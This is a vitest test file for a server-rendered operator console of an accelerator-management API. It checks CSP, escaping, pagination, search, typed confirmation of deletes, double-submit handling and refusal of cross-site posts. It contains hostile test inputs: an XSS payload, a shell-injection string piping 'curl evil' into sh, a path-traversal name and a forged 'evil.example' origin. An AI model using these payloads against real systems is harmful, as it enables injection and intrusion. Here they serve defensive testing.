/** The console without a browser: what it asks, with whose rights, and what it answers. */
import { execFileSync } from 'node:child_process'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ASTRAY, type Lived, SAME, type UiWorld, apiOf, createConsole, lived, openUiWorld, placesOf } from './world.ts'

let world: UiWorld
let seen: Lived
beforeAll(async () => {
  world = await openUiWorld()
  seen = await lived(world)
})
afterAll(() => world.close())

type Ui = ReturnType<typeof createConsole>
const textOf = async (ui: Ui, place: string, headers: Readonly<Record<string, string>> = {}) =>
  (await ui.request(`/ui/${place}`, { headers })).text()
const posted = (
  ui: Ui,
  place: string,
  fields: Readonly<Record<string, string>>,
  headers: Readonly<Record<string, string>> = SAME,
) => ui.request(`/ui/${place}`, { method: 'POST', body: new URLSearchParams(fields), headers })

describe('every page', () => {
  test('is drawn on the server, under a policy that allows no script or style in the page', async () => {
    const ui = createConsole(world)
    for (const place of [...placesOf(seen), ...ASTRAY]) {
      const answer = await ui.request(`/ui/${place}`)
      const html = await answer.text()
      expect(answer.status, place).toBe(ASTRAY.includes(place) ? 404 : 200)
      expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'")
      expect(html, place).not.toMatch(/ style="| on\w+="|<style|<script(?![^>]*(src=|application\/json))|unsafe/)
      expect(html, place).not.toMatch(/(href|src|action)="(\/|https?:)/)
      expect(html, place).not.toContain('undefined')
      expect(html, place).not.toContain('[object')
    }
  })
  test('sends the same as data to a script that asks for it', async () => {
    const answer = await createConsole(world).request('/ui/arqs', { headers: { accept: 'application/json' } })
    const screen = (await answer.json()) as { view: string; body: { list: { value: readonly { state: string }[] } } }
    expect(screen.view).toBe('arqs')
    expect(screen.body.list.value.map(({ state }) => state)).toEqual(['Initial', 'BindStarted', 'BindFailed', 'Bound'])
    expect([answer.headers.get('cache-control'), answer.headers.get('vary')]).toEqual(['no-store', 'accept, cookie'])
  })
  test('shows text of others as text', async () => {
    const evil = '</script><img src=x onerror=alert(1)>'
    await world.must(201, 'POST /v2/device_profiles', {
      body: [{ name: 'odd', description: evil, groups: [{ 'resources:FPGA': '1' }] }],
    })
    const html = await textOf(createConsole(world), 'profiles/odd')
    expect(html).not.toContain('<img')
    expect(html).toContain('&lt;img')
  })
})

describe('what an address says', () => {
  const REQUEST = 'req-00000000-0000-4000-8000-000000000000'
  test('is no command: each value of a command to copy is quoted', async () => {
    const evil = 'x;curl evil|sh $(id)`id` it\'s "so"'
    const named = encodeURIComponent(evil)
    for (const place of [
      `instances/${named}`,
      `hosts/${named}/do/retire`,
      `profiles/${named}/do/delete`,
      `explain?profile=${named}&host=${named}`,
      `explain?draft=x&host=${named}`,
      `capacity?resource_class=${named}&trait=${named}`,
      `usage?project_id=${named}&from=${named}`,
      `events?after=${named}&type=${named}&host=${named}`,
    ]) {
      const html = await textOf(createConsole(world), place)
      const copied = [...html.matchAll(/data-copy="([^"]*)"/g)].map(([, text]) =>
        text!.replaceAll('&quot;', '"').replaceAll('&amp;', '&'),
      )
      const script = `printf '%s\\0' ${copied.join(' ')}`
      expect(execFileSync('bash', ['-c', script], { encoding: 'utf8' }).split('\0'), place).toContain(evil)
    }
  })
  test('that something was done is believed only of an action and a request', async () => {
    const ui = createConsole(world)
    const done = async (place: string) => /<p class="done".*?<\/svg>(.*?)<\/p>/.exec(await textOf(ui, place))?.[1]
    expect(await done(`hosts?done=restore&request=${REQUEST}`)).toBe(`Restore: recorded under ${REQUEST}.`)
    for (const said of [
      'done=All is lost, call 0900',
      `done=explode&request=${REQUEST}`,
      'done=restore',
      'done=restore&request=req-1 and call 0900',
      `done=release&request=${REQUEST}`,
    ])
      expect(await done(`hosts?${said}`), said).toBeUndefined()
  })
})

describe('what a page says', () => {
  test('home: what needs a look, gravest first, each with the list where it is', async () => {
    const html = await textOf(createConsole(world), '')
    expect(html).toContain('2 things need attention'.replace(' ', '\u00A0'))
    expect(html).toMatch(/href="arqs\?state=BindFailed">1\u00A0request could not be bound/)
    expect(html).toMatch(/href="handles\?state=quarantined">1\u00A0attach handle is quarantined/)
  })
  test('a list with several filters: each can be taken away, and the tabs keep the others', async () => {
    const html = await textOf(createConsole(world), 'devices?hostname=compute-1&state=enabled')
    expect(html).toContain('<a class="drop" href="devices?state=enabled" aria-label="Without hostname compute-1">')
    expect(html).toMatch(/<a href="devices\?hostname=compute-1">All<\/a>/)
    expect(html).toMatch(/<a href="devices\?hostname=compute-1&amp;state=failing">/)
    expect(html).not.toContain('></a>')
  })
  test('what is not configured is no zero', async () => {
    expect(await textOf(createConsole(world), 'drift')).toContain('Not configured')
  })
})

describe('lists', () => {
  test('are turned page by page, there and back, and each row is shown once', async () => {
    for (let at = 0; at < 60; at++)
      await world.must(201, 'POST /v2/accelerator_requests', { body: { device_profile_name: 'fpga-small' } })
    const ui = createConsole(world)
    type Page = {
      body: { list: { value: readonly { uuid: string }[] }; turn: { earlier: string | null; later: string | null } }
    }
    const page = async (place: string) =>
      (await (await ui.request(`/ui/${place}`, { headers: { accept: 'application/json' } })).json()) as Page
    const first = await page('arqs')
    const second = await page(first.body.turn.earlier!)
    const back = await page(second.body.turn.later!)
    const uuids = (one: Page) => one.body.list.value.map(({ uuid }) => uuid)
    const all = (await world.must(200, 'GET /v2/accelerator_requests')).json.arqs.map(
      ({ uuid }: { uuid: string }) => uuid,
    )
    expect([...uuids(first), ...uuids(second)]).toEqual(all.toReversed())
    expect(uuids(back)).toEqual(uuids(first))
    expect([first.body.turn.later, second.body.turn.earlier, back.body.turn.later]).toEqual([null, null, null])
  })
})

describe('finding', () => {
  const foundAt = async (text: string) =>
    (await createConsole(world).request(`/ui/find?q=${text}`)).headers.get('location')
  test('leads to whatever has the name', async () => {
    expect(await foundAt(seen.bound.uuid)).toBe(`arqs/${seen.bound.uuid}`)
    expect(await foundAt(seen.bound.instance)).toBe(`instances/${seen.bound.instance}`)
    expect(await foundAt(seen.card)).toBe(`devices/${seen.card}`)
    expect(await foundAt(seen.handle)).toBe(`handles/${seen.handle}`)
    expect(await foundAt('compute-1')).toBe('hosts/compute-1')
    expect(await foundAt('fpga-small')).toBe('profiles/fpga-small')
  })
  test('a name is only ever a name', async () => {
    expect(await foundAt('..%2F..%2Fv2')).toBeNull()
  })
})

test('a host that is out of service and silent is no finding, and has a tab of its own', async () => {
  const ui = createConsole(world)
  expect(await textOf(ui, '')).not.toContain('hosts?liveness=down')
  const page = await textOf(ui, 'hosts?liveness=retired')
  expect([page.includes('hosts/compute-2'), page.includes('hosts/compute-1')]).toEqual([true, false])
})

describe('doing something', () => {
  const handleState = async () => (await world.must(200, `GET /v2/handles/${seen.handle}`)).json.state
  test('asks first, with the command that does the same, and says why something cannot be done', async () => {
    const ui = createConsole(world)
    const page = await textOf(ui, `handles/${seen.handle}/do/release`)
    expect(page).toContain(`accelerando handle release ${seen.handle} --reason`)
    expect(await textOf(ui, `arqs/${seen.bound.uuid}/do/delete`)).toContain('an instance has it')
    expect((await ui.request(`/ui/handles/${seen.handle}/do/explode`)).status).toBe(404)
  })
  test('says beforehand whom it would concern', async () => {
    const { json: devices } = await world.must(200, 'GET /v2/devices?hostname=compute-1&type=FPGA')
    const page = await textOf(createConsole(world), `devices/${devices.devices[0].uuid}/do/disable`)
    expect(page).toContain('In use:')
    expect(page).toContain(seen.bound.instance)
    expect(await textOf(createConsole(world), 'hosts/compute-1/do/retire')).toContain('In use:')
  })
  test('what the API refuses is said, and what was typed is kept', async () => {
    const answer = await posted(createConsole(world), `handles/${seen.handle}/do/release`, { reason: '' })
    expect(answer.status).toBe(409)
    expect(await answer.text()).toContain('The service refused')
    expect(await handleState()).toBe('quarantined')
  })
  test('what is done is recorded under the name of the request that is shown', async () => {
    const answer = await posted(createConsole(world), `handles/${seen.handle}/do/release`, { reason: 'looked at it' })
    expect([answer.status, await handleState()]).toEqual([303, 'free'])
    expect(decodeURIComponent(answer.headers.get('location') ?? '')).toMatch(
      /^\.\.\/\.\.\/\.\.\/handles\/.*\?done=release&request=req-/,
    )
    const back = new URL(answer.headers.get('location')!, `http://h/ui/handles/${seen.handle}/do/release`)
    expect(await textOf(createConsole(world), back.href.slice('http://h/ui/'.length))).toMatch(
      /<p class="done" role="status">.*Release: recorded under req-[0-9a-f-]{36}\.<\/p>/,
    )
  })
  test('profiles are created, and their versions made, disabled and enabled', async () => {
    const ui = createConsole(world)
    const filled = async (place: string): Promise<Record<string, string>> => {
      const html = await textOf(ui, place)
      const inputs = [...html.matchAll(/<input[^>]* name="(command|if_version|version)"[^>]* value="([^"]*)"/g)]
      const area = /<textarea[^>]*>([^<]*)</.exec(html)?.[1] ?? ''
      return {
        ...Object.fromEntries(inputs.map(([, name, value]) => [name, value])),
        groups: area.replaceAll('&quot;', '"'),
      }
    }
    const groups = '[{"resources:FPGA": "2"}]'
    expect(await textOf(ui, 'profiles')).toContain('href="profiles/new/do/create"')
    const made = await posted(ui, 'profiles/new/do/create', {
      ...(await filled('profiles/new/do/create')),
      name: 'by-hand',
      groups,
    })
    expect([made.status, made.headers.get('location')]).toEqual([
      303,
      expect.stringMatching(/^\.\.\/\.\.\/\.\.\/profiles\/by-hand\?done=create&request=req-/),
    ])
    const shown = async () => (await textOf(ui, 'profiles/by-hand')).replaceAll(/<[^>]*>/g, ' ')
    expect(await shown()).toMatch(/Version\s+1\s/)
    const stale = await filled('profiles/by-hand/do/version')
    expect(JSON.parse(stale['groups']!)).toEqual(JSON.parse(groups))
    const wrong = await posted(ui, 'profiles/by-hand/do/version', { ...stale, groups: '[{oops', reason: 'more' })
    expect([wrong.status, await wrong.text()]).toEqual([
      409,
      expect.stringMatching(/not JSON[\s\S]*\[\{oops<\/textarea>/),
    ])
    const next = { ...stale, groups: groups.replace('2', '3'), reason: 'more' }
    expect((await posted(ui, 'profiles/by-hand/do/version', next)).status).toBe(303)
    expect(await shown()).toMatch(/Version\s+2\s/)
    const late = await posted(ui, 'profiles/by-hand/do/version', { ...next, command: '' })
    expect([late.status, await late.text()]).toEqual([409, expect.stringContaining('The service refused')])
    const off = await filled('profiles/by-hand/do/disable')
    expect(off['version']).toBe('2')
    expect((await posted(ui, 'profiles/by-hand/do/disable', { ...off, reason: 'wrong' })).status).toBe(303)
    expect(await shown()).toMatch(/Version\s+1\s/)
    const on = await filled('profiles/by-hand/do/enable')
    expect(on['version']).toBe('2')
    expect((await posted(ui, 'profiles/by-hand/do/enable', { ...on, reason: 'right again' })).status).toBe(303)
    expect(await shown()).toMatch(/Version\s+2\s/)
    expect(await textOf(ui, 'profiles/by-hand/do/enable')).toContain('each version of it is enabled')
  })
  test('what is grave is done only when its name, or the beginning of its UUID, is typed', async () => {
    const ui = createConsole(world)
    await world.newProfile('to-go')
    const place = 'profiles/to-go/do/delete'
    expect(await textOf(ui, place)).toContain('Type to-go to confirm')
    for (const confirm of ['', 'to-stay', 'TO-GO', 'to-go-too']) {
      const answer = await posted(ui, place, { confirm })
      expect([answer.status, await answer.text()]).toEqual([409, expect.stringContaining('Nothing was done')])
    }
    const { uuid } = (await world.must(200, 'GET /v2/device_profiles?name=to-go')).json.device_profiles[0]
    expect(await textOf(ui, `profiles/${uuid}/do/delete`)).toContain(`Type ${uuid.slice(0, 8)} to confirm`)
    expect((await posted(ui, place, { confirm: ' to-go ' })).status).toBe(303)
    expect((await world.must(200, 'GET /v2/device_profiles?name=to-go')).json.device_profiles).toEqual([])
    expect(await textOf(ui, `handles/${seen.handle}/do/release`)).not.toContain('to confirm')
  })
  test('a double click is one command, and both are answered by what is recorded', async () => {
    const api = apiOf(world)
    const ui = createConsole(world)
    const recorded = async (request: string) => {
      const { events } = (await (await api(new Request('http://h/v2/events?after=0&limit=1000'))).json()) as {
        events: readonly { event: { data: { cause?: { requestId?: string } } } }[]
      }
      return events.filter(({ event }) => event.data.cause?.requestId === request).length
    }
    const made = { body: { device_profile_name: 'fpga-small' } }
    const arq = (await world.must(201, 'POST /v2/accelerator_requests', made)).json.arqs[0].uuid as string
    await world.newProfile('soon-gone')
    for (const place of [
      `handles/${seen.handle}/do/quarantine`,
      `handles/${seen.handle}/do/release`,
      `arqs/${arq}/do/delete`,
      'profiles/soon-gone/do/delete',
      'hosts/compute-2/do/restore',
    ]) {
      const form = await textOf(ui, place)
      const command = /name="command" value="([^"]*)"/.exec(form)![1]!
      const confirm = / name="confirm"/.test(form) ? /Type (\S+) to confirm/.exec(form)![1]! : ''
      const fields = { command, reason: 'looked at it', confirm }
      const [one, other] = await Promise.all([posted(ui, place, fields), posted(ui, place, fields)])
      const late = await posted(ui, place, fields)
      const request = /request=(req-[^&]*)/.exec(one.headers.get('location')!)![1]!
      for (const answer of [one, other, late]) {
        expect(answer.status, place).toBe(303)
        expect(answer.headers.get('location'), place).toContain(`request=${request}`)
      }
      await world.pump()
      expect(await recorded(request), place).toBe(1)
    }
  })
  test('is refused when a page of another site, or nobody, says so', async () => {
    const ui = createConsole(world)
    const place = `devices/${seen.card}/do/disable`
    for (const headers of [
      {},
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
      { origin: 'http://evil.example', host: 'localhost' },
    ])
      expect((await posted(ui, place, {}, headers as Record<string, string>)).status).toBe(403)
    expect(
      (
        await world.must(200, `GET /v2/devices/${seen.card}`, {
          headers: { 'OpenStack-API-Version': 'accelerator 2.3' },
        })
      ).json.status,
    ).toBe('enabled')
    expect((await posted(ui, place, {}, { origin: 'http://localhost:9', host: 'localhost:9' })).status).toBe(303)
    await world.must(204, `POST /v2/devices/${seen.card}/enable`)
  })
})
